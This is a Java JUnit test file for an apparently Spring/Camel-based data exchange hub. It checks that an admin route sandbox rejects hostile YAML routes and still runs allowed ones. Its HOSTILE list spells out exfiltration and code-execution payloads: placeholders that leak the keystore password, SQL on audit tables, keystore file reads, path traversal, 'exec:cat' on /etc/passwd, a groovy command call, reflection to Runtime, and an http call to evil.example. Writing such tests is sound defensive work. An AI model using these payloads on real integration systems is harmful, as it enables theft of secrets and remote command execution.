package org.exchangehub.admin.routes;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.exchangehub.ExchangeHubApplication;
import org.exchangehub.HubHttp;
import org.exchangehub.HubTest;
import org.exchangehub.TestCredentials;
import org.exchangehub.TestRouteFiles;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.context.TestPropertySource;

/**
 * The route sandbox against a hostile admin: routes that would exfiltrate secrets, audit rows, keys or personal
 * data — the three seen (a secret in a placeholder, sql on the hub's own database, the keystore read as a file) and
 * their variants — are refused at validation, at upload and when placed in the routes directory by hand, each
 * naming its rule and never a resolved value; the demo's own routes load, and a route within the allow-list works.
 */
@HubTest
@TestPropertySource(properties = { "hub.routes.dir=" + RouteSandboxTests.ROUTES,
        "hub.routes.history-dir=" + RouteSandboxTests.HISTORY, "hub.adapters.petition.inbox=" + RouteSandboxTests.INBOX,
        "hub.adapters.petition.read-lock-min-age=100", "hub.protect.keystore-password=sandbox-marker-4711",
        "hub.data-dir=target/test-routes-sandbox/data" })
class RouteSandboxTests {

    static final String ROUTES = "target/test-routes-sandbox/routes";
    static final String HISTORY = "target/test-routes-sandbox/history";
    static final String INBOX = "target/test-routes-sandbox/inbox";

    /** Hostile route files, each with the rule that must refuse it. */
    static final Map<String, String[]> HOSTILE = new LinkedHashMap<>();

    static {
        TestRouteFiles.freshCopy(Path.of("target/test-routes-sandbox"));
        try {
            Files.createDirectories(Path.of(INBOX));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        hostile("keystore password in a placeholder", "SANDBOX_PLACEHOLDER",
                "timer:x", "to: \"{{hub.protect.keystore-password}}:y\"");
        hostile("a user's password hash in a placeholder", "SANDBOX_PLACEHOLDER",
                "timer:x", "to: \"log:{{hub.security.users[0].password-hash}}\"");
        hostile("the civil-affairs password under hub.adapters", "SANDBOX_PLACEHOLDER",
                "timer:x", "to: \"log:{{hub.adapters.civil-affairs.password}}\"");
        hostile("an environment placeholder", "SANDBOX_PLACEHOLDER", "timer:x", "to: \"log:{{env:HOME}}\"");
        hostile("sql on the hub's own database", "SANDBOX_SQL_DATASOURCE",
                "timer:x", "to: \"sql:select * from audit_event\"");
        hostile("sql naming the hub's data source", "SANDBOX_BEAN",
                "timer:x", "to: \"sql:select * from audit_event?dataSource=#dataSource\"");
        hostile("the keystore read as a file", "SANDBOX_FILE_PATH",
                "\"file:data/keys?noop=true&include=.*bcfks\"", "to: \"log:x\"");
        hostile("a file outside the inbox through ..", "SANDBOX_FILE_PATH",
                "\"file:" + INBOX + "/../../..?noop=true\"", "to: \"log:x\"");
        hostile("http to the admin's own server", "SANDBOX_HTTP_HOST", "timer:x", "to: \"http://evil.example:80/x\"");
        hostile("exec", "SANDBOX_COMPONENT", "timer:x", "to: \"exec:cat?args=/etc/passwd\"");
        hostile("jdbc", "SANDBOX_COMPONENT", "timer:x", "to: \"jdbc:dataSource\"");
        hostile("the bean component", "SANDBOX_COMPONENT", "timer:x", "to: \"bean:hubUsers?method=all\"");
        hostile("the class component", "SANDBOX_COMPONENT", "timer:x", "to: \"class:java.lang.Runtime\"");
        hostile("a bean step on a hub internal", "SANDBOX_BEAN", "timer:x", "bean:\n                ref: dataSource");
        hostile("a bean step by class", "SANDBOX_BEAN", "timer:x",
                "bean:\n                beanType: java.lang.ProcessBuilder");
        hostile("groovy", "SANDBOX_LANGUAGE", "timer:x", "setBody:\n                groovy: \"'id'.execute().text\"");
        hostile("a language by name", "SANDBOX_LANGUAGE", "timer:x",
                "setBody:\n                expression:\n                  language: joor\n                  expression: \"x\"");
        hostile("a processor", "SANDBOX_STEP", "timer:x", "process:\n                ref: hubUsers");
        hostile("a recipient list", "SANDBOX_STEP", "timer:x", "recipientList:\n                simple: \"${body}\"");
        hostile("reflection in simple", "SANDBOX_EXPRESSION", "timer:x",
                "setBody:\n                simple: \"${body.getClass().forName('java.lang.Runtime')}\"");
        hostile("the environment in simple", "SANDBOX_EXPRESSION", "timer:x",
                "setBody:\n                simple: \"${env:HUB_PROTECT_KEYSTORE_PASSWORD}\"");
        hostile("properties in simple", "SANDBOX_EXPRESSION", "timer:x",
                "setBody:\n                simple: \"${properties:hub.protect.keystore-password}\"");
        hostile("the camel context in simple", "SANDBOX_EXPRESSION", "timer:x",
                "setBody:\n                simple: \"${camelContext.registry}\"");
        hostile("a call into another route", "SANDBOX_DIRECT", "timer:x", "to: \"direct:query-police-household-registration\"");
        hostile("a direct route that is no query service", "SANDBOX_DIRECT", "direct:backdoor", "to: \"log:x\"");
        hostile("a dynamic endpoint", "SANDBOX_DYNAMIC", "timer:x", "toD: \"http://${header.host}/x\"");
        hostile("beans declared in the file", "SANDBOX_STRUCTURE", null, null);
    }

    private static void hostile(String name, String rule, String from, String step) {
        String yaml = from == null
                ? "- beans:\n    - name: runtime\n      type: java.lang.ProcessBuilder\n"
                : "- route:\n    id: sandbox-probe\n    from:\n      uri: " + from + "\n      steps:\n            - " + step
                        + "\n";
        HOSTILE.put(name, new String[] { rule, yaml });
    }

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    @TempDir
    Path dir;

    final String admin = TestCredentials.basic(TestCredentials.ADMIN);

    @Test
    void hostileRoutesAreRefusedAtValidationAndUploadNamingTheRuleAndNoSecret() {
        HubHttp http = new HubHttp(port);
        HOSTILE.forEach((name, expected) -> {
            String file = "/api/v1/admin/routes/files/sandbox-probe.camel.yaml";
            HubHttp.Response validation = http.send("POST", file + "/validate", admin, "application/yaml", expected[1],
                    Map.of());
            assertThat(validation.json().get("valid").asBoolean()).as(name).isFalse();
            assertThat(validation.body()).as(name).contains(expected[0]).doesNotContain("sandbox-marker-4711");
            HubHttp.Response upload = http.send("PUT", file, admin, "application/yaml", expected[1], Map.of());
            assertThat(upload.status()).as(name).isEqualTo(400);
            assertThat(upload.body()).as(name).contains(expected[0]).doesNotContain("sandbox-marker-4711");
        });
        assertThat(Files.exists(Path.of(ROUTES, "sandbox-probe.camel.yaml"))).isFalse();
        assertThat(http.get("/api/v1/admin/routes/sandbox-probe", admin).status()).isEqualTo(404);
    }

    @Test
    void theDemoRoutesLoadAndARouteWithinTheAllowListRuns() throws IOException {
        HubHttp http = new HubHttp(port);
        for (String route : List.of("petition-csv-files", "police-incidents", "health-death-certificates",
                "civil-affairs-allowances", "hub-status", "query-police-household-registration")) {
            assertThat(http.get("/api/v1/admin/routes/" + route, admin).status()).as(route).isEqualTo(200);
        }
        String allowed = """
                - route:
                    id: sandbox-allowed
                    from:
                      uri: "file:{{hub.adapters.petition.inbox}}/sandbox"
                      parameters:
                        include: ".*\\\\.txt"
                        move: "done/${file:name}"
                      steps:
                        - setHeader:
                            name: seen
                            simple: "${header.CamelFileName} ${date:now:yyyy}"
                        - to: "file:{{hub.adapters.petition.inbox}}/sandbox-out"
                """;
        HubHttp.Response upload = http.send("PUT", "/api/v1/admin/routes/files/sandbox-allowed.camel.yaml", admin,
                "application/yaml", allowed, Map.of());
        assertThat(upload.status()).as(upload.body()).isEqualTo(200);
        Files.createDirectories(Path.of(INBOX, "sandbox"));
        Files.writeString(Path.of(INBOX, "sandbox", "note.txt"), "nothing personal");

        await().atMost(Duration.ofSeconds(15)).until(() -> Files.exists(Path.of(INBOX, "sandbox-out", "note.txt")));
    }

    @Test
    void aHostileRouteFilePlacedInTheRoutesDirectoryByHandStopsTheHubFromStartingNamingTheRule() throws IOException {
        Path routes = Files.createDirectories(dir.resolve("routes"));
        for (String file : List.of("hub-error-handling.camel.yaml", "petition.camel.yaml")) {
            Files.copy(Path.of("routes", file), routes.resolve(file));
        }
        String[] keystore = HOSTILE.get("the keystore read as a file");
        Files.writeString(routes.resolve("exfiltrate.camel.yaml"), keystore[1]);

        assertThatThrownBy(() -> new SpringApplicationBuilder(ExchangeHubApplication.class).run(
                "--server.port=0", "--spring.profiles.active=test", "--hub.data-dir=" + dir.resolve("data"),
                "--spring.datasource.url=jdbc:h2:mem:sandbox-" + System.nanoTime() + ";DB_CLOSE_DELAY=-1",
                "--hub.adapters.petition.inbox=" + dir.resolve("inbox"),
                "--hub.routes.dir=" + routes, "--camel.main.routes-include-pattern=file:" + routes + "/*.camel.yaml")
                .close()).hasStackTraceContaining("route file exfiltrate.camel.yaml: SANDBOX_FILE_PATH");
    }
}
